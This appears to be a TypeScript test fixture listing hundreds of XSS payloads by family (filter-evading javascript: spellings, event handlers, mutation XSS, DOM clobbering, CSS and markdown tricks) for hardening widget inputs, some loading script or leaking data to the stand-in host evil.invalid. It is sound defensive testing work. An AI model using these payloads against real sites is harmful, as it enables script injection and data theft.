/**
 * Hostile strings for every text, markdown and URL field of every widget, grouped by family.
 *
 * Drawn from, and adapted to our fields (each vector written out here, none fetched at run time):
 * - OWASP, "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org): script and event-handler
 *   tags, `javascript:` in every case, entity, whitespace and control-character spelling, CSS vectors.
 * - PortSwigger, "Cross-site scripting (XSS) cheat sheet" (portswigger.net/web-security/
 *   cross-site-scripting/cheat-sheet): event handlers that fire without interaction (autofocus,
 *   ontoggle, onbegin, onanimationstart), SVG animation of `href`, protocol obfuscation.
 * - DOMPurify's test fixtures (github.com/cure53/DOMPurify, test/fixtures/expect.mjs): DOM clobbering,
 *   mutation XSS through namespace confusion (math/svg/mglyph/style), noscript and template tricks,
 *   Unicode line separators before `javascript:`.
 * - The HTML5 Security Cheatsheet (html5sec.org): formaction, srcdoc, base and meta refresh vectors.
 *
 * Every vector that runs calls `alert()` or sets `__pwned` (in a frame: `parent.__pwned`/`top.__pwned`):
 * the hardening page replaces both with a tripwire. The strings never contain a real host: a URL that
 * would load something points at `evil.invalid`, a name that cannot resolve.
 */

/** Schemes written the ways filters have been fooled; each is also used as a markdown and an HTML link below. */
const URL_SPELLINGS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0014javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'java\u200bscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&Tab;ascript:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript:%61lert(1)',
  'javascript://%0aalert(1)',
  'javascript://evil.invalid/%0d%0aalert(1)',
  'javascript:/*-->*/alert(1)',
  'javascript:alert(1)//https://example.org/',
  'data:text/html,<script>parent.__pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+',
  'DATA:text/html,<script>parent.__pwned=1</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=1"/>',
  'data:application/javascript,alert(1)',
  ' data:text/html,<script>parent.__pwned=1</script>',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'blob:https://evil.invalid/0000',
  'file:///etc/passwd',
  'filesystem:https://evil.invalid/temporary/x',
  'about:blank',
  'jar:https://evil.invalid/x.jar!/',
  'x-javascript:alert(1)',
  '\\\\evil.invalid\\share',
];

/** What a browser's URL parser drops before reading a scheme: ASCII tab, LF and CR anywhere. */
const DROPPED_ANYWHERE = ['\t', '\n', '\r'];
/** …and any C0 control character or space before the URL (U+0000 to U+0020). */
const DROPPED_BEFORE = Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(code));

/**
 * The spellings a browser forgives, written out by rule so that none is missed: `javascript` split
 * by each character the parser drops, at each place (before the scheme and before the colon too);
 * the scheme after each character dropped before it; case, other schemes and several at once. Then
 * lookalikes a parser reads as harmless relative paths (entities taken literally, percent-encoding,
 * a backslash or a soft hyphen in the scheme), and backslashes, which it reads as slashes.
 * `java\tscript:alert(document.domain)` is issue #16's.
 */
const FORGIVEN_URL_SPELLINGS: readonly string[] = [
  ...DROPPED_ANYWHERE.flatMap((dropped) =>
    Array.from({ length: 'javascript'.length + 1 }, (_, at) => `${'javascript'.slice(0, at)}${dropped}${'javascript'.slice(at)}:alert(1)`),
  ),
  ...DROPPED_BEFORE.map((dropped) => `${dropped}javascript:alert(1)`),
  'java\tscript:alert(document.domain)',
  'j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:alert(1)',
  'java\r\nscript:alert(1)',
  '\x00\x1f \t\n\rjava\tscr\nipt:alert(1)',
  '  \x0b\x0c JaVa\tScRiPt:alert(1)',
  'jAvAsCrIpT:alert(1)',
  'JAVA\nSCRIPT:alert(1)',
  'javascript:alert(1)\x00 \t',
  'da\tta:text/html,<script>parent.__pwned=1</script>',
  '\x01DATA\n:text/html,<script>parent.__pwned=1</script>',
  'vb\nscript:msgbox(1)',
  'bl\rob:https://evil.invalid/0000',
  'fi\tle:///etc/passwd',
  'java&#9;script:alert(1)',
  'java&#x0A;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java%09script:alert(1)',
  '%0Ajavascript:alert(1)',
  'java\\script:alert(1)',
  'java\u00adscript:alert(1)',
  '\\\\evil.invalid\\x',
  '/\\evil.invalid/x',
  '\t\\/evil.invalid/x',
  'javascript:\\\\alert(1)',
];

const SCRIPT_TAGS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script>__pwned=1</script>',
  '<script type="module">__pwned=1</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<script/src=data:,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
  '<script ~~~>alert(0%0)</script ~~~>',
  '<SCRIPT SRC=//evil.invalid/.j>',
];

const EVENT_HANDLERS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror="&#x61;lert(1)">',
  '<img src=x onerror=alert`1`>',
  '<img src=1 onerror\n=alert(1)>',
  '<img src=1 onerror\u000c=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe onload=alert(1)></iframe>',
  '<object data=x onerror=alert(1)></object>',
  '<div onmouseover=alert(1)>hover</div>',
  '<a onclick=alert(1)>click</a>',
  '<b onpointerenter=alert(1)>point</b>',
  '<p onanimationstart=alert(1) style="animation-name:x">x</p>',
  '<x contenteditable onfocus=alert(1) autofocus>x</x>',
  '<style onload=alert(1)></style>',
  '<form><button formaction=javascript:alert(1)>send</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<keygen autofocus onfocus=alert(1)>',
  '<frameset onload=alert(1)>',
  '<table background=x onerror=alert(1)>',
  '<a href="https://example.org/" onfocus=alert(1) autofocus>x</a>',
  '<img src=x onerror=alert(1) <!-- ',
];

const SVG_AND_MATHML: readonly string[] = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>',
  '<svg><discard onbegin=alert(1) /></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><image href="javascript:alert(1)" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>X</maction></math>',
  '<math href="javascript:alert(1)">X</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">X</mi></math>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
];

const CSS_ATTACKS: readonly string[] = [
  '<style>*{display:none!important}</style>',
  '<style>:host{display:none}</style>',
  '<style>@import "https://evil.invalid/x.css";</style>',
  '<link rel=stylesheet href="https://evil.invalid/x.css">',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
  '<span style="position:fixed;top:0;left:0;width:100vw;height:100vh">cover</span>',
  '<img style="position:absolute;top:-9999px" src=x>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.invalid/xss.xml#x)">x</div>',
  '<div style="behavior:url(https://evil.invalid/x.htc)">x</div>',
  '<div style="font-size:99999px">huge</div>',
  '<div style="background-image:url(https://evil.invalid/track.gif)">track</div>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<style>a[href^="h"]{background:url(https://evil.invalid/leak)}</style>',
  '<x style="animation:x 1s" onanimationstart=alert(1)></x>',
  '<div style="transform:scale(100);position:relative;z-index:99">big</div>',
  '"><style>body{visibility:hidden}</style>',
];

const DOM_CLOBBERING: readonly string[] = [
  '<a id=__pwned href="https://evil.invalid/">x</a>',
  '<img name=cookie src=x>',
  '<img src=x name=createElement><img src=y id=createElement>',
  '<form name=getElementById></form>',
  '<img id=alert src=x>',
  '<a id=defaultView name=defaultView>x</a>',
  '<form id=x><input name=attributes></form>',
  '<iframe name=alert></iframe>',
  '<embed name=__pwned>',
  '<object id=customElements></object>',
  '<a id=location href="javascript:alert(1)">x</a>',
  '<img name=currentScript src=x>',
  '<form id=document><input name=body></form>',
  '<a id=title name=title>clobber the widget’s own id</a>',
];

const TEMPLATE_AND_FRAMEWORK: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  '<%= alert(1) %>',
  '{{7*7}}',
  '#{alert(1)}',
  '[[alert(1)]]',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<div v-html="\'<img src=x onerror=alert(1)>\'"></div>',
  '<x ng-app>{{$on.constructor("alert(1)")()}}</x>',
  '<?lit$1234$><img src=x onerror=alert(1)>',
  '<!--?lit$1234$-->',
  'lit$1234$',
  '<ahrca-appeal-banner src="https://evil.invalid/x.json"></ahrca-appeal-banner>',
];

const MUTATION_XSS: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  '<table><math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<img src="x` onerror=alert(1)>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
];

const BROKEN_AND_NESTED: readonly string[] = [
  '<img src=x onerror=alert(1)',
  '<a href="javascript:alert(1)',
  '<<img src=x onerror=alert(1)>>',
  '<!--<img src=x onerror=alert(1)>-->',
  '--><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</p></div></article></template><img src=x onerror=alert(1)>',
  '</style></script></textarea><img src=x onerror=alert(1)>',
  '<b><i><u>never closed',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<!DOCTYPE html><html><body onload=alert(1)>',
  '<base href="javascript:/a/-alert(1)///////"><a href=../lol>x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src=javascript:parent.__pwned=1></iframe>',
  `${'<div>'.repeat(300)}<img src=x onerror=alert(1)>${'</div>'.repeat(300)}`,
  `${'<blockquote>'.repeat(120)}deep`,
  '<a href="https://example.org/"><a href="javascript:alert(1)">nested</a></a>',
  '<p>unclosed <a href="https://example.org/">link <img src=x onerror=alert(1)',
];

const MARKDOWN: readonly string[] = [
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '[x](https://example.org/ "title\\" onmouseover=alert(1) x=\\"")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '[a](javascript:alert%281%29)',
  '[a](<javascript:alert(1)>)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '*<img src=x onerror=alert(1)>*',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '> <script>alert(1)</script>\n> quoted',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] done',
  '# <svg onload=alert(1)>\n\nheading',
  '[![img](javascript:alert(1))](javascript:alert(2))',
  '[x](//evil.invalid/%0d%0a<script>alert(1)</script>)',
  `${'>'.repeat(100)} deeply quoted`,
  `${'  '.repeat(60)}- deeply indented list`,
];

const UNICODE_AND_CONTROLS: readonly string[] = [
  '\u202egnp.exe\u202c <b>spoof</b>',
  '\u0000<script>alert(1)</script>',
  'text\ud800 with a lone surrogate <img src=x onerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\r\n\r\n<script>alert(1)</script>',
  '\u200b\u200c\u200d\ufeff<svg onload=alert(1)>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

/** Every family, by name: a failure names the family and the string. */
export const XSS_FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'script tags': SCRIPT_TAGS,
  'event handlers': EVENT_HANDLERS,
  'SVG and MathML': SVG_AND_MATHML,
  'URL schemes': URL_SPELLINGS,
  'URL schemes as markdown links': URL_SPELLINGS.map((url) => `[click](${url})`),
  'URL schemes as HTML links': URL_SPELLINGS.map((url) => `<a href="${url}">click</a>`),
  'URL spellings browsers forgive': FORGIVEN_URL_SPELLINGS,
  'CSS attacks': CSS_ATTACKS,
  'DOM clobbering': DOM_CLOBBERING,
  'template and framework injection': TEMPLATE_AND_FRAMEWORK,
  'mutation XSS': MUTATION_XSS,
  'broken and nested markup': BROKEN_AND_NESTED,
  markdown: MARKDOWN,
  'Unicode and control characters': UNICODE_AND_CONTROLS,
};

export interface XssPayload {
  family: string;
  payload: string;
}

/** The whole corpus, each string once. */
export const XSS_PAYLOADS: readonly XssPayload[] = (() => {
  const seen = new Set<string>();
  const all: XssPayload[] = [];
  for (const [family, payloads] of Object.entries(XSS_FAMILIES)) {
    for (const payload of payloads) {
      if (seen.has(payload)) continue;
      seen.add(payload);
      all.push({ family, payload });
    }
  }
  return all;
})();
